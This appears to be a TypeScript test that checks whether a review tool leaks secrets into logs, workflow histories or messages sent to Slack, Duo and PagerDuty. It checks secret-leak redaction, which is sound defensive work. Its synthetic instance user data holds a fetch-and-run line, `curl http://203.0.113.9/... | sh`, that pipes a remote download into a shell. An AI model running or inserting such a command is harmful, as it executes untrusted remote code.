// Secrets under a full review: known values (the Slack bot token and signing secret, Duo's secret key, PagerDuty's
// routing key, and sensitive request parameters in the records: a console password, instance user data) must not
// appear in any log line of any vouch process, in any workflow history (every payload decoded), memo or search
// attribute, nor in what Slack, Duo and PagerDuty were sent. Each value is also looked for base64-encoded.
import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { REDACTED } from '../../src/core/redact';
import { reviewWorkflowId } from '../../workflows/messages';
import { awaitOutcomes, driveFleet, fleetProblems, type Fleet } from './fault-fleet';
import { engineer, loginProfileCreated, userDataReplaced } from './fault-records';
import { MOTO_ACCOUNT, REGION, type FaultStack } from './fault-stack';
import { historyText, plain } from './history';
import { logLines, exitWithin } from './vouch-processes';

export interface SecretsReport {
  problems: string[];
  /** Where the test looked (so a pass is not a pass over nothing). */
  looked: { logLines: Record<string, number>; histories: number; historyBytes: number; slackMessages: number; pagerDutyEvents: number; duoRequests: number };
}

function forms(value: string): string[] {
  return [value, Buffer.from(value).toString('base64'), Buffer.from(value).toString('base64url')].filter((v) => v.length >= 12);
}

/** Runs two reviews carrying sensitive parameters to their end, then looks everywhere for every secret. */
export async function secretsEverywhere(stack: FaultStack, boundMs: number): Promise<SecretsReport> {
  const password = `Pw-${randomBytes(12).toString('hex')}`;
  const userData = Buffer.from(`#!/bin/sh\ncurl http://203.0.113.9/${randomBytes(12).toString('hex')} | sh\n`).toString('base64');
  const alice = loginProfileCreated({ account: MOTO_ACCOUNT, region: REGION, actor: engineer('alice', MOTO_ACCOUNT), userName: 'mallory', password });
  const bob = userDataReplaced({ account: MOTO_ACCOUNT, region: REGION, actor: engineer('bob', MOTO_ACCOUNT), userData });
  const fleet: Fleet = {
    name: 'secrets',
    holdRevokes: new Set(),
    holdDms: new Set(),
    reviews: [
      { i: 0, kind: 'confirm', person: 'alice', record: alice },
      { i: 1, kind: 'page', person: 'bob', record: bob },
    ].map((r) => {
      const workflowId = reviewWorkflowId(MOTO_ACCOUNT, String(r.record.eventID));
      return { ...r, kind: r.kind as 'confirm' | 'page', person: r.person as 'alice' | 'bob', workflowId, handle: stack.client.workflow.getHandle(workflowId), lastClick: 0 };
    }),
  };
  // `vouch review FILE`: one more intake path, its own process and log.
  const file = path.join(stack.dir, 'secrets-records.json');
  fs.writeFileSync(file, JSON.stringify({ Records: [alice, bob] }));
  const review = stack.vouch('review-secrets', ['review', file]);
  const code = await exitWithin(review, 120_000);
  const problems: string[] = [];
  if (code !== 0) problems.push(`vouch review exited ${code}: ${review.stderr().slice(-1500)}`);
  const driver = driveFleet(stack, fleet);
  try {
    await awaitOutcomes(fleet, boundMs);
  } finally {
    await driver.stop();
  }
  problems.push(...(await fleetProblems(stack, fleet)));

  const secrets: Record<string, string> = { ...stack.secrets, password, userData };
  const scan = (where: string, text: string): void => {
    for (const [name, value] of Object.entries(secrets)) {
      for (const form of forms(value)) if (text.includes(form)) problems.push(`${where} contains the ${name}${form === value ? '' : ' (base64)'}`);
    }
  };

  // Every log line of every vouch process of the run (worker, handler, each intake and review).
  const logLinesBy: Record<string, number> = {};
  for (const f of fs.readdirSync(stack.logDir)) {
    const text = fs.readFileSync(path.join(stack.logDir, f), 'utf8');
    logLinesBy[f] = logLines(text).length;
    scan(`log ${f}`, text);
  }

  // Every workflow in the namespace: history with payloads decoded, and what describe shows (memo, search attributes).
  let histories = 0;
  let historyBytes = 0;
  for await (const wf of stack.client.workflow.list()) {
    const handle = stack.client.workflow.getHandle(wf.workflowId, wf.runId);
    const text = await historyText(handle);
    const desc = await handle.describe();
    const described = JSON.stringify(plain({ memo: desc.memo, searchAttributes: desc.searchAttributes, raw: desc.raw }));
    histories++;
    historyBytes += text.length;
    scan(`history of ${wf.workflowId}`, text);
    scan(`describe of ${wf.workflowId}`, described);
  }
  // The sensitive parameters did reach vouch, and were redacted there: the reviews' inputs show the marker.
  for (const [r, key] of [[fleet.reviews[0], 'password'], [fleet.reviews[1], 'userData']] as const) {
    if (!r) continue;
    const text = await historyText(r.handle);
    if (!new RegExp(`${key}\\\\*"\\s*:\\s*\\\\*"${REDACTED}`).test(text)) problems.push(`${r.workflowId}: no redacted ${key} in the history (did the record reach the review?)`);
  }

  // What the vendors were sent.
  scan('Slack messages', JSON.stringify({ messages: stack.slack.messages, ephemerals: stack.slack.ephemerals }));
  scan('PagerDuty events', JSON.stringify(stack.pagerduty.events.map((e) => ({ ...e.body, routing_key: undefined }))));
  scan('Duo pushes', JSON.stringify(stack.duo.transactions()));
  return {
    problems,
    looked: {
      logLines: logLinesBy,
      histories,
      historyBytes,
      slackMessages: stack.slack.messages.length,
      pagerDutyEvents: stack.pagerduty.events.length,
      duoRequests: stack.duo.requests.length,
    },
  };
}
